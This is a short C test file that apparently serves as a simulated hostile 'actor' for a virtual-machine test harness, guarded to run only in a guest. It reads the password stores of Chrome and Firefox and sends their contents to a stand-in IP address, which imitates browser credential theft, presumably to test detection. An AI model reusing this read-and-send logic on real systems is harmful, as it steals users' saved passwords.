#include "tests/vm/actors/win/actor.h"

/* Sends the passwords that the browser keeps. */
int
main(void)
{
	static char octets[65536];
	size_t n;

	actor_only_in_guest();
	n = actor_read("C:\\users\\root\\AppData\\Local\\Google\\Chrome"
		       "\\User Data\\Default\\Login Data",
	    octets, sizeof(octets));
	n += actor_read("C:\\users\\root\\AppData\\Roaming\\Mozilla\\Firefox"
			"\\Profiles\\a1.default\\logins.json",
	    octets + n, sizeof(octets) - n);
	(void)actor_send("198.51.100.66", 80, octets, n, NULL, 0);
	return n > 0 ? 0 : 1;
}
